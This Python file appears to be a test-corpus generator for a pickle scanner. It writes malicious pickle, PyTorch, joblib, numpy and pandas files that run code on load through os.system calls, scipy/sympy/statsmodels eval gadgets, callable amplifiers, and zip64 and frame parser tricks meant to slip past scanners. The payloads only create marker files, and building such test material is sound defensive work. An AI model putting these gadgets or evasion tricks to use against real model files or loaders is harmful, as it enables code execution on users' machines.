    """An expression that creates the marker, for sinks that evaluate expressions (sympify,
    formula terms): several spellings, so no rule can key on one."""
    m = marker(sid)
    return [
        "__import__('builtins').open(%r, 'w').close() or 1" % m,
        "__import__('os').system(%r) or 1" % shell_cmd(sid),
        "[open(%r, 'w').close(), 1][1]" % m,
        "__import__('pathlib').Path(%r).touch() or 1" % m,
    ][how % 4]


# Containers every behaviour technique is written in: (container, ext, loader, requires).
BEHAVIOUR_CONTAINERS = [
    ("raw", ".pkl", "pickle.loads", ()),
    ("pytorch_zip", ".pt", "torch.load", ("torch",)),
    ("pytorch_legacy", ".pt", "torch.load", ("torch",)),
    ("joblib", ".joblib", "joblib.load", ("joblib", "numpy")),
    ("joblib_zlib", ".joblib", "joblib.load", ("joblib", "numpy")),
    ("joblib_lz4", ".joblib", "joblib.load", ("joblib", "numpy", "lz4")),
    ("numpy_npy", ".npy", "numpy.load", ("numpy",)),
    ("pandas_gzip", ".pkl.gz", "pandas.read_pickle", ("pandas",)),
    ("pandas_xz", ".pkl.xz", "pandas.read_pickle", ("pandas",)),
    ("pandas_zip", ".pkl.zip", "pandas.read_pickle", ("pandas",)),
]


# Classes a pickle reaches under another module's name: the profile's `pkg.*` wildcards
# judge `module.Name` by the module it is spelled with, and find_class returns the same
# class. (name of the class in that module, the module spelling, the real module).
SPELLINGS = [
    ("PyTorchFileWriter", "sklearn.externals.array_api_compat.torch", "torch._C"),
    ("Memory", "sklearn.datasets._lfw", "joblib.memory"),
]


class spelled_as:
    """While dumping, classes pickle under their SPELLINGS module (the pickler writes
    `cls.__module__` and checks that the name there is the same object)."""

    def __enter__(self):
        self.saved = []
        for name, alias, real in SPELLINGS:
            try:
                cls = getattr(importlib.import_module(real), name)
                if getattr(importlib.import_module(alias), name) is not cls:
                    continue
            except (ImportError, AttributeError):
                continue
            self.saved.append((cls, cls.__module__))
            cls.__module__ = alias
        return self

    def __exit__(self, *exc):
        for cls, module in self.saved:
            cls.__module__ = module


def write_behaviour(container: str, obj, path: Path, proto: int) -> None:
    with spelled_as():
        _write_behaviour(container, obj, path, proto)


def _write_behaviour(container: str, obj, path: Path, proto: int) -> None:
    """Dump `obj` (wrapped as ordinary content) the way `container`'s library does."""
    if container == "raw":
        path.write_bytes(pickle.dumps({"config": {"lr": 0.1}, "extra": obj}, protocol=proto))
    elif container in ("pytorch_zip", "pytorch_legacy"):
        import torch

        ckpt = {"weight": torch.arange(4, dtype=torch.float32), "extra": obj}
        path.write_bytes(_torch_bytes(ckpt, legacy=container == "pytorch_legacy"))
    elif container.startswith("joblib"):
        import joblib
        import numpy as np

        compress = {"joblib": 0, "joblib_zlib": ("zlib", 3), "joblib_lz4": ("lz4", 3)}[container]
        joblib.dump({"coef": np.arange(8, dtype=np.float64), "extra": obj}, str(path),
                    compress=compress)
    elif container == "numpy_npy":
        import numpy as np

        arr = np.empty(2, dtype=object)
        arr[0] = "harmless"
        arr[1] = obj
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        path.write_bytes(buf.getvalue())
    elif container.startswith("pandas_"):
        import pandas as pd

        series = pd.Series(["a", obj], dtype=object)
        if container == "pandas_gzip":
            series.to_pickle(str(path), compression={"method": "gzip", "mtime": 0})
        elif container == "pandas_xz":
            series.to_pickle(str(path), compression="xz")
        else:
            # pandas' own zip writer stamps the current time: same layout, fixed date.
            buf = io.BytesIO()
            series.to_pickle(buf, compression=None)
            path.write_bytes(fixed_zip([(path.name[:-4], buf.getvalue())], zipfile.ZIP_DEFLATED))
    else:
        raise ValueError(container)


def behaviour(cls: str, base: str, variants: list, *, expect: tuple, source: str,
              requires: tuple = (), use: bool = False, note: str | None = None,
              fires_in=None) -> None:
    """Register technique `base` as samples: every variant as a raw pickle, and each other
    container with the variants in turn (variant i goes into containers i, i+n, ...), so
    every container holds the technique and every variant sits in several containers.

    `variants`: functions sid -> object graph. `use`: the payload runs on first use of the
    loaded object (the verifier's `<loader>+use` mode calls transform on it).
    `fires_in(container, variant_index)`: False where the gadget needs what that loader
    does not give (the sample is kept, with fires=false and the reason in `note`)."""
    n = len(variants)
    others = [c for c in BEHAVIOUR_CONTAINERS if c[0] != "raw"]
    plan = [(BEHAVIOUR_CONTAINERS[0], i) for i in range(n)]
    plan += [(c, j % n) for j, c in enumerate(others)]
    for (container, ext, loader, creq), i in plan:
        sid = "%s_v%d_%s" % (base, i, container)
        build = variants[i]
        proto = (2, 4, 5, 3)[i % 4]

        def make(sid, path, build=build, container=container, proto=proto):
            write_behaviour(container, build(sid), path, proto)

        fires, why = True, note
        if fires_in is not None:
            verdict = fires_in(container, i)
            if verdict is not True:
                fires, why = False, verdict
        req = tuple(dict.fromkeys(requires + creq + LOADER_MODULES.get(loader, ())))
        assert cls in CLASSES and all(s.id != sid for s in SAMPLES), sid
        SAMPLES.append(Sample(
            id=sid, cls=cls, make=make, ext=ext, container=container,
            loader=loader + ("+use" if use else ""), expect=expect, fires=fires,
            source=source, requires=req, note=why, technique=base, writes_file=True))


CLASSES.update({
    "custom_setstate": "BUILD into an allowed class whose __setstate__ executes or re-parses its state",
    "custom_new": "NEWOBJ into an allowed class whose __new__ turns strings into code (sympify)",
    "reconstructor_init": "copyreg._reconstructor running an allowed base's __init__ with attacker state",
    "custom_setitem": "SETITEMS / APPENDS on an allowed non-builtin object whose __setitem__ evaluates",
    "amplifier": "helpers that call the callable they are given, and bound methods of allowed instances",
    "deferred_call": "an allowed estimator whose stored function writes a file on first use",
    "parity": "shapes whose every global is allowed by name: only the judgement of the whole stream refuses",
})

# What the scan must say. A name the profile allows is no longer enough: the operation on it
# (BUILD into a reviewed __setstate__, a string reaching sympify, a call through a helper) is
# what is refused. DISALLOWED is the loader-side type; a v2 engine may report the operation
# under any of these.
BEHAVIOUR_EXPECT = (DANGEROUS, UNKNOWN, REDUCE_CALL, DYNAMIC, INJECTION, CODE, "DISALLOWED")


# -- 1. BUILD into a custom __setstate__ --------------------------------------------------

def _scipy_template(sid: str, how: int) -> str:
    # rv_generic._attach_argparser_methods exec()s this and then looks up _parse_args etc.
    body = py_code(sid) if how % 2 == 0 else "__import__('os').system(%r)" % shell_cmd(sid)
    return body + "\ndef _parse_args(self): pass\n"


def _scipy_dist(modname: str, clsname: str, how: int, real_state: bool):
    def build(sid):
        mod = importlib.import_module(modname)
        cls = getattr(mod, clsname)
        state = {}
        if real_state:
            # The state a real instance pickles (rv_generic.__getstate__), template swapped. It
            # holds numpy's global RandomState: seeded, or every run writes other bytes.
            import numpy as np

            np.random.seed(0)
            inst = next(v for v in vars(mod).values() if type(v) is cls)
            state = dict(inst.__getstate__())
        state["_parse_arg_template"] = _scipy_template(sid, how)
        return NEWOBJ(cls, state=state)
    return build


def _statsmodels_formula(clsname: str, how: int):
    def build(sid):
        import pandas as pd
        import statsmodels.base.data as smd

        frame = pd.DataFrame({"y": [1.0, 2.0, 3.0, 4.0], "x": [0.5, 1.5, 2.5, 3.5]})
        formula = "y ~ x + I(%s)" % py_expr(sid, how)
        state = {"restore_model_spec": True, "formula": formula, "frame": frame}
        return NEWOBJ(getattr(smd, clsname), state=state)
    return build


behaviour("custom_setstate", "bh_scipy_setstate_exec", [
    _scipy_dist("scipy.stats._continuous_distns", "norm_gen", 0, False),
    _scipy_dist("scipy.stats._continuous_distns", "gamma_gen", 1, True),
    _scipy_dist("scipy.stats._discrete_distns", "binom_gen", 2, False),
    _scipy_dist("scipy.stats._continuous_distns", "beta_gen", 3, True),
], expect=BEHAVIOUR_EXPECT, requires=("scipy",),
    source="issue 14 class 1: scipy.stats rv_generic.__setstate__ -> _attach_argparser_methods exec()s "
           "the _parse_arg_template of the state")

behaviour("custom_setstate", "bh_statsmodels_formula", [
    _statsmodels_formula("ModelData", 0),
    _statsmodels_formula("PandasData", 2),
], expect=BEHAVIOUR_EXPECT, requires=("statsmodels", "pandas"),
    source="issue 14 class 1: statsmodels ModelData.__setstate__ re-evaluates the stored formula "
           "(FormulaManager.get_matrices, eval of the formula's terms)",
    fires_in=lambda container, i: True if container != "raw" else (
        "ModelData.__setstate__ evaluates the formula in the frame `eval_env` levels up; under a bare "
        "pickle.loads from the top level that frame does not exist and it fails first"))


# -- 2. NEWOBJ into a custom __new__ that sympifies ---------------------------------------

def _sympy_new(path: str, how: int, wrap=None):
    def build(sid):
        mod, _, name = path.rpartition(".")
        cls = getattr(importlib.import_module(mod), name)
        arg = py_expr(sid, how)
        return NEWOBJ(cls, *(wrap(arg) if wrap else (arg,)))
    return build


behaviour("custom_new", "bh_sympy_new_sympify", [
    _sympy_new("sympy.core.containers.Tuple", 0),
    _sympy_new("sympy.sets.sets.FiniteSet", 1, lambda a: ("1", a)),
    _sympy_new("sympy.functions.elementary.trigonometric.sin", 2),
    _sympy_new("sympy.functions.elementary.miscellaneous.Max", 3, lambda a: (a, "2")),
    _sympy_new("sympy.core.function.Lambda", 0, lambda a: ("x", a)),
], expect=BEHAVIOUR_EXPECT, requires=("sympy",),
    source="issue 14 class 2: sympy Tuple/FiniteSet/Function/Max/Lambda __new__ sympify() their "
           "arguments, and sympify of a str is parse_expr -> eval")


# -- 3. copyreg._reconstructor running a base's __init__ ----------------------------------

def _reconstructor(path: str, state):
    def build(sid):
        mod, _, name = path.rpartition(".")
        cls = getattr(importlib.import_module(mod), name)
        return Reduce(copyreg._reconstructor, (cls, cls, state(sid)))
    return build


def _reconstruct(alias_module: str, name: str, other: str | None):
    def build(sid):
        base = getattr(importlib.import_module(alias_module), name)
        cls = base
        if other:
            mod, _, cname = other.rpartition(".")
            cls = getattr(importlib.import_module(mod), cname)
        return Reduce(copyreg._reconstructor, (cls, base, marker(sid)))
    return build


behaviour("reconstructor_init", "bh_reconstructor_init", [
    # torch._C.PyTorchFileWriter(name) creates the zip file `name` (a compiled __init__:
    # the behaviour review reports it opaque, never clean).
    _reconstruct("sklearn.externals.array_api_compat.torch", "PyTorchFileWriter", None),
    # joblib.Memory(location) creates its cache directory `location/joblib`.
    _reconstruct("sklearn.datasets._lfw", "Memory", None),
    _reconstruct("sklearn.datasets._lfw", "Memory", "sklearn.preprocessing._data.StandardScaler"),
], expect=BEHAVIOUR_EXPECT, requires=("sklearn", "torch", "joblib"),
    source="issue 14 class 3: copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state) "
           "with any new-allowed base; `sklearn.*` covers classes sklearn merely imports: "
           "torch's PyTorchFileWriter (opens its path for writing) and joblib.Memory (creates its "
           "cache directory)")


def _memmap_new(mode: str, shape):
    def build(sid):
        import numpy

        return NEWOBJ(numpy.memmap, marker(sid), "uint8", mode, 0, shape)
    return build


behaviour("custom_new", "bh_numpy_memmap_new", [
    _memmap_new("w+", (4,)),
    _memmap_new("w+", (2, 3)),
], expect=BEHAVIOUR_EXPECT, requires=("numpy",),
    source="issue 14 class 2: numpy.memmap (new-allowed by name) __new__ opens its filename argument; "
           "mode 'w+' creates it")


# -- 4. SETITEMS / APPENDS on an allowed object whose __setitem__ evaluates ---------------

def _sympy_setitem(path: str, how: int, shape):
    def build(sid):
        mod, _, name = path.rpartition(".")
        cls = getattr(importlib.import_module(mod), name)
        rows, cols = shape
        key = (rows - 1, cols - 1) if how % 2 == 0 else rows * cols - 1
        if "Sparse" in name:
            return Reduce(cls, (rows, cols, {}), dictitems=[(key, py_expr(sid, how))])
        return NEWOBJ(cls, [[0] * cols for _ in range(rows)],
                      dictitems=[(key, py_expr(sid, how))])
    return build


behaviour("custom_setitem", "bh_sympy_matrix_setitem", [
    _sympy_setitem("sympy.matrices.dense.MutableDenseMatrix", 0, (2, 2)),
    _sympy_setitem("sympy.matrices.sparse.MutableSparseMatrix", 1, (3, 3)),
    _sympy_setitem("sympy.matrices.dense.MutableDenseMatrix", 3, (1, 4)),
    _sympy_setitem("sympy.matrices.sparse.MutableSparseMatrix", 2, (2, 5)),
], expect=BEHAVIOUR_EXPECT, requires=("sympy",),
    source="issue 14 class 4: SETITEMS on a sympy mutable matrix runs __setitem__, which sympify()s "
           "the value")


# -- 5. capability amplifiers -------------------------------------------------------------

def _path(sid: str):
    return Reduce(pathlib.Path, (marker(sid),))


def _amp_randomstate_touch(sid):
    import numpy.random._pickle as nrp

    return Reduce(nrp.__randomstate_ctor, (_path(sid), getattr_(pathlib.Path, "touch")))


def _amp_generator_mkdir(sid):
    import numpy.random._pickle as nrp

    return Reduce(nrp.__generator_ctor, (_path(sid), getattr_(pathlib.Path, "mkdir")))


def _amp_dill_create_array(sid):
    import dill._dill as dd

    return Reduce(dd._create_array, (getattr_(pathlib.Path, "touch"), (_path(sid),), None))


def _amp_dill_create_array_tofile(sid):
    import dill._dill as dd
    import numpy

    return Reduce(dd._create_array, (getattr_(numpy.arange(3), "tofile"), (marker(sid),), None))


def _amp_partial_write_text(sid):
    return Reduce(Reduce(functools_partial(), (getattr_(pathlib.Path, "write_text"), _path(sid), "x")), ())


def _amp_getattr_tofile(sid):
    import numpy

    return Reduce(getattr_(numpy.linspace(0.0, 1.0, 4), "tofile"), (marker(sid),))


def _amp_getattr_to_csv(sid):
    import pandas as pd

    frame = pd.DataFrame({"a": [1, 2], "b": [3.0, 4.0]})
    return Reduce(getattr_(frame, "to_csv"), (marker(sid),))


def _amp_getattr_touch(sid):
    return Reduce(getattr_(_path(sid), "touch"), ())


def functools_partial():
    import functools

    return functools.partial


behaviour("amplifier", "bh_amp_numpy_random_ctor", [
    _amp_randomstate_touch,
    _amp_generator_mkdir,
], expect=BEHAVIOUR_EXPECT, requires=("numpy",),
    source="issue 14 class 5: numpy.random._pickle.__randomstate_ctor/__generator_ctor call the "
           "bit_generator_ctor they are given: a bound file writer of an allowed class")

behaviour("amplifier", "bh_amp_dill_create_array", [
    _amp_dill_create_array,
    _amp_dill_create_array_tofile,
], expect=BEHAVIOUR_EXPECT, requires=("dill", "numpy"),
    source="issue 14 class 5: dill._dill._create_array(f, args, state) calls f(*args)")

behaviour("amplifier", "bh_amp_partial_and_getattr", [
    _amp_partial_write_text,
    _amp_getattr_tofile,
    _amp_getattr_to_csv,
    _amp_getattr_touch,
], expect=BEHAVIOUR_EXPECT, requires=("numpy", "pandas"),
    source="issue 14 class 5: functools.partial and getattr(<allowed instance>, name) turn allowed "
           "values into calls: Path.write_text/touch, ndarray.tofile, DataFrame.to_csv")


# -- 6. deferred calls: a stored function runs on first use --------------------------------

def name_is_svmlight(attr: str) -> bool:
    return attr == "dump_svmlight_file"  # dump_svmlight_file(X, y, f) also needs the labels


def _function_transformer(module: str, attr: str, kw: str, inverse: bool = False,
                          pipeline: bool = False, **more):
    def build(sid):
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import FunctionTransformer

        func = importlib.import_module(module)
        for part in attr.split("."):
            func = getattr(func, part)
        kw_args = {kw: marker(sid), **more}
        if name_is_svmlight(attr):
            kw_args["y"] = [0.0, 1.0, 2.0]
        if inverse:
            ft = FunctionTransformer(inverse_func=func, inv_kw_args=kw_args,
                                     check_inverse=False, validate=False)
        else:
            ft = FunctionTransformer(func=func, kw_args=kw_args, validate=False)
        return Pipeline([("scale", ft)]) if pipeline else ft
    return build


behaviour("deferred_call", "bh_function_transformer", [
    _function_transformer("joblib", "dump", "filename"),
    _function_transformer("pandas", "to_pickle", "filepath_or_buffer", inverse=True),
    _function_transformer("sklearn.datasets", "dump_svmlight_file", "f", pipeline=True),
    _function_transformer("joblib", "dump", "filename", compress=3),
], expect=BEHAVIOUR_EXPECT, requires=("sklearn", "joblib", "pandas", "numpy"), use=True,
    source="issue 14 class 6: sklearn FunctionTransformer(func=<file writer>, kw_args=...) writes "
           "the file on transform/inverse_transform (loader mode +use: load, then transform)")


# -- 7. parity: every global allowed by name, the stream as a whole is not -----------------

def _parity_getattr_class_method(sid):
    # getattr(<allowed class>, <public name>) is the enum-member shape; here it fetches a
    # writer, and the call applies it to an allowed instance.
    return Reduce(getattr_(pathlib.Path, "touch"), (_path(sid),))


def _parity_partial_allowed(sid):
    # functools.partial around an allowed callable (pathlib.Path), then getattr on the result.
    made = Reduce(Reduce(functools_partial(), (pathlib.Path, marker(sid))), ())
    return Reduce(getattr_(made, "touch"), ())


def _parity_str_method_chain(sid):
    # str.split-like bound methods of allowed builtins are benign; the same shape on a Path is not.
    return Reduce(getattr_(_path(sid), "write_bytes"), (b"",))


behaviour("parity", "bh_parity_allowed_names", [
    _parity_getattr_class_method,
    _parity_partial_allowed,
    _parity_str_method_chain,
], expect=BEHAVIOUR_EXPECT,
    source="issue 14 class 7: every global (builtins.getattr, functools.partial, pathlib.Path) is "
           "allowed by name, so a find_class check alone passes it; scan and load must both refuse")


# =============================================================================================
# parser_differential: readings that differ between loaders (issue 16)
# =============================================================================================

def _stored_local(name: str, data: bytes) -> bytes:
    n = name.encode()
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(n), 0) + n + data


def _stored_central(name: str, data: bytes, offset: int, comment: bytes = b"") -> bytes:
    n = name.encode()
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(n), 0, len(comment), 0, 0, 0, offset) + n + comment


def _zip64_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, offset)


def _zip64_locator(at: int) -> bytes:
    return struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)


def _end_record(count: int, size: int, offset: int) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, size, offset, 0)


def _lay_out(at: int, members: list[tuple[str, bytes]]) -> tuple[bytes, bytes]:
    body, cd = bytearray(), bytearray()
    for name, data in members:
        cd += _stored_central(name, data, at + len(body))
        body += _stored_local(name, data)
    return bytes(body), bytes(cd)


def zip64_split_locator(shown: list[tuple[str, bytes]], hidden: list[tuple[str, bytes]]) -> bytes:
    """Python's zipfile takes the zip64 end record right before the locator and sees `shown`;
    torch's miniz follows the locator to a second record and central directory hidden inside a
    stored member of `shown`, and sees `hidden`."""
    out, cd_a = _lay_out(0, shown)
    out, cd_a = bytearray(out), bytearray(cd_a)
    blob_name = shown[0][0].split("/")[0] + "/.data/blob"
    blob_data_at = len(out) + 30 + len(blob_name)
    blob = bytearray(b"pad!")
    hb, cd_m = _lay_out(blob_data_at + len(blob), hidden)
    blob += hb
    cd_m_at = blob_data_at + len(blob)
    blob += cd_m
    rec_m_at = blob_data_at + len(blob)
    blob += _zip64_record(len(hidden), len(cd_m), cd_m_at)
    cd_a += _stored_central(blob_name, bytes(blob), len(out))
    out += _stored_local(blob_name, bytes(blob))
    cd_a_at = len(out)
    out += cd_a
    out += _zip64_record(len(shown) + 1, len(cd_a), cd_a_at)
    out += _zip64_locator(rec_m_at)
    out += _end_record(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    return bytes(out)


def zip64_split_end_record(zipfile_sees: list[tuple[str, bytes]], miniz_sees: list[tuple[str, bytes]]) -> bytes:
    """The mirror image: no zip64 record right before the locator, so zipfile reads the 32-bit
    end record (`zipfile_sees`) while miniz follows the locator (`miniz_sees`). The locator is
    the comment of zipfile's last central entry."""
    out, _ = _lay_out(0, zipfile_sees)
    out = bytearray(out)
    offsets, at = [], 0
    for name, data in zipfile_sees:
        offsets.append(at)
        at += 30 + len(name.encode()) + len(data)
    mb, cd_m = _lay_out(len(out), miniz_sees)
    out += mb
    cd_m_at = len(out)
    out += cd_m
    rec_m_at = len(out)
    out += _zip64_record(len(miniz_sees), len(cd_m), cd_m_at)
    cd_z_at = len(out)
    cd_z = bytearray()
    for i, ((name, data), off) in enumerate(zip(zipfile_sees, offsets)):
        comment = _zip64_locator(rec_m_at) if i + 1 == len(zipfile_sees) else b""
        cd_z += _stored_central(name, data, off, comment)
    out += cd_z
    out += _end_record(len(zipfile_sees), len(cd_z), cd_z_at)
    return bytes(out)


@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", expect=IMPORT_CALL + (TAMPER,),
        requires=("torch",), source="CVE-2025-1944/1945 family (zip64 end records: zipfile and torch read different directories)",
        note="zipfile (and a scanner built on it) sees a benign checkpoint; torch.load follows the zip64 locator to a "
             "second central directory hidden in a stored member and unpickles its data.pkl")
def torch_zip64_split(sid):
    import torch

    shown = [(m.name, m.data) for m in zip_members(_torch_bytes({"weight": torch.arange(8, dtype=torch.float32)}))]
    hidden = [(m.name, m.data) for m in zip_members(_torch_bytes(_torch_obj(sid)))]
    return zip64_split_locator(shown, hidden)


@sample("parser_differential", ext=".npz", container="numpy_npz", loader="numpy.load", expect=IMPORT_CALL + (TAMPER,),
        source="CVE-2025-1944/1945 family, mirror image (zipfile reads the 32-bit end record, miniz the zip64 locator)",
        note="numpy.load reads the npz with zipfile; a reader that follows the zip64 locator sees a numeric npz")
def npz_zip64_split(sid):
    evil = [("weights.npy", _npy_bytes_benign()), ("labels.npy", _npy_bytes(sid))]
    decoy = [("weights.npy", _npy_bytes_benign())]
    return zip64_split_end_record(evil, decoy)


@sample("parser_differential", ext=".pkl.zip", container="pandas_zip", loader="pandas.read_pickle",
        expect=IMPORT_CALL + (TAMPER,), requires=("pandas",),
        source="CVE-2025-1944/1945 family, mirror image, through pandas.read_pickle(compression='zip')",
        note="pandas infers zip from the .zip suffix and reads the one member with zipfile")
def pandas_zip64_split(sid):
    return zip64_split_end_record([("data.pkl", system_call(sid, 2))], [("data.pkl", pickle.dumps({"a": 1}, protocol=2))])


@sample("parser_differential", ext=".npy", container="numpy_npy", loader="numpy.load", expect=IMPORT_CALL + (TAMPER,),
        source="npy header parsed with ast.literal_eval: a repeated 'descr' key, the last one wins",
        note="a reader that takes the first 'descr' sees a float array and skips the pickle numpy.load(allow_pickle=True) runs")
def numpy_npy_repeated_descr(sid):
    body = _npy_bytes(sid)
    hlen = struct.unpack("<H", body[8:10])[0]
    header = body[10:10 + hlen].decode("latin1")
    assert "'descr': '|O'" in header, header
    new = "{'descr': '<f8', " + header.strip()[1:].rstrip()
    new = new.replace("'|O', 'fortran_order'", "'|O', 'fortran_order'")
    # numpy keeps the last 'descr' ('|O'); the first says float64.
    pad = (-(10 + len(new) + 1)) % 64
    new = new + " " * pad + "\n"
    return body[:8] + struct.pack("<H", len(new)) + new.encode("latin1") + body[10 + hlen:]


@sample("parser_differential", ext=".pkl", container="joblib", loader="joblib.load", writes_file=True,
        expect=(UNSCANNABLE,), requires=("joblib", "numpy"),
        source="joblib < 0.10 format: NDArrayWrapper makes joblib.load call numpy.load(allow_pickle=True) on a side file",
        note="the payload is in the side file <id>_01.npy, named inside the pickle; the pickle itself only references it")
def joblib_ndarray_wrapper_side_file(sid, path):
    side = sid + "_01.npy"
    (path.parent / side).write_bytes(_npy_bytes(sid))
    a = Asm(2)
    a.global_("joblib.numpy_pickle", "NDArrayWrapper")
    a.op(b")\x81")  # EMPTY_TUPLE NEWOBJ
    a.op(b"}(")     # EMPTY_DICT MARK
    a.str_("filename").str_(side)
    a.str_("subclass").global_("numpy", "ndarray")
    a.str_("allow_mmap").op(b"\x88")
    a.op(b"ub")     # SETITEMS BUILD
    path.write_bytes(a.stop())


# ---------------------------------------------------------------------------------------------
# Driver
# ---------------------------------------------------------------------------------------------

def missing_modules(s: Sample) -> list[str]:
    missing = []
    for m in s.requires:
        try:
            found = importlib.util.find_spec(m) is not None
        except (ImportError, ValueError):
            found = False
        if not found:
            missing.append(m)
    return missing


# =============================================================================================
# loaders that read the same bytes differently (issue 20): frames read from a file object,
# and pickle._Unpickler's float() lines
# =============================================================================================

def _frame_read_whole(tail: bytes) -> bytes:
    """A FRAME longer than any peek buffer (the C unpickler reading a file gets it with one
    read()) whose last bytes are `tail`: 128 KiB of bytes data, popped, come first."""
    pad = b"B" + struct.pack("<I", 1 << 17) + bytes(1 << 17) + b"0"
    return frame(pad + tail)


def _frame_crossing(sid: str) -> bytes:
    # Read as bytes, the INT line is "x0": not a number, so nothing runs. Read from a file,
    # the "x" left in the frame is dropped and the line is "0"; the payload follows.
    payload = Asm(4, header=False).emit(CALL(G("os", "system"), shell_cmd(sid))).stop()
    return b"\x80\x04" + _frame_read_whole(b"Ix") + b"0\n0" + payload


@sample("parser_differential", loader="pickle.load_stream",
        source="issue 20: a line opcode across a FRAME end (C unpickler on a file object)",
        note="pickle.loads fails on the INT line; pickle.load of the file drops the rest of the frame and runs the payload")
def frame_line_crossing(sid):
    return _frame_crossing(sid)


@sample("parser_differential", ext=".pt", container="pytorch_zip", loader="torch.load", requires=("torch",),
        source="issue 20: torch.load reads data.pkl through io.BytesIO, where frames are read whole")
def torch_frame_line_crossing(sid):
    import torch

    members = zip_members(_torch_bytes({"weight": torch.arange(4, dtype=torch.float32)}))
    members = [dataclasses.replace(m, data=_frame_crossing(sid)) if m.name.endswith("/data.pkl") else m
               for m in members]
    return build_zip(members)


@sample("parser_differential", loader="pickle.load_stream",
        source="issue 20: STOP inside a FRAME, more streams after it",
        note="after the first pickle.load the file is at the frame's end, not after the STOP: the bytes after the STOP are skipped and the payload runs next")
def frame_stop_then_payload(sid):
    first = _frame_read_whole(b"N.\xff")
    return b"\x80\x04" + first + system_call(sid, 2, "posix")


def _float_then_payload(sid: str) -> bytes:
    return b"F 1_0e500 \n0" + system_call(sid, 2, "posix")


@sample("parser_differential", loader="joblib.load",
        source="issue 20: a FLOAT line only float() accepts (joblib's NumpyUnpickler is pickle._Unpickler)",
        note="the C unpickler rejects the line (\"not a pickle\"); joblib reads it as inf and runs the payload")
def float_line_joblib(sid):
    return _float_then_payload(sid)


@sample("parser_differential", loader="pandas.read_pickle",
        source="issue 20: pandas.read_pickle retries a ValueError with its pickle._Unpickler subclass")
def float_line_pandas(sid):
    return _float_then_payload(sid)


def generate(out: Path, only: set[str] | None = None) -> list[dict]:
    out.mkdir(parents=True, exist_ok=True)
    entries = []
    skipped = []
    for s in SAMPLES:
        if only and s.id not in only:
            continue
        miss = missing_modules(s)
        if miss:
            skipped.append((s.id, miss))
            continue
        path = out / s.file
        if s.writes_file:
            if path.exists():
                path.unlink()
            s.make(s.id, path)
        else:
            path.write_bytes(s.make(s.id))
        entries.append(s.entry())
    entries.sort(key=lambda e: e["file"])
    (out / "manifest.json").write_text(json.dumps(entries, indent=1, sort_keys=True) + "\n")
    for sid, miss in skipped:
        print("skipped %s: missing %s" % (sid, ", ".join(miss)), file=sys.stderr)
    return entries


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True, type=Path)
    ap.add_argument("--only", nargs="*", help="generate only these sample ids")
    args = ap.parse_args(argv)
    entries = generate(args.out, set(args.only) if args.only else None)
    print("wrote %d samples to %s" % (len(entries), args.out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
